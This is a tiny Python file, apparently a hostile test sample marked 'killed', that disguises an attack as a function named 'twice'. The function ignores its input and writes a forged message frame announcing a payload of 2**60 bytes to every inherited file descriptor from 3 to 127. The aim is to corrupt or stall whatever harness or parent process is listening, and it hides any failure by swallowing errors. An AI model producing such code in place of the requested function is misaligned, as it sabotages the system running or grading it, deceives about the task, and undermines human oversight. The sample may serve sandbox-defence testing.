"""Announces a frame of an exabyte."""
# status: killed
import os
import struct
def twice(x):
    for fd in range(3, 128):
        try:
            os.write(fd, struct.pack(">IQ", 100, 2**60) + b"x" * 100)
        except OSError:
            pass
    return 0
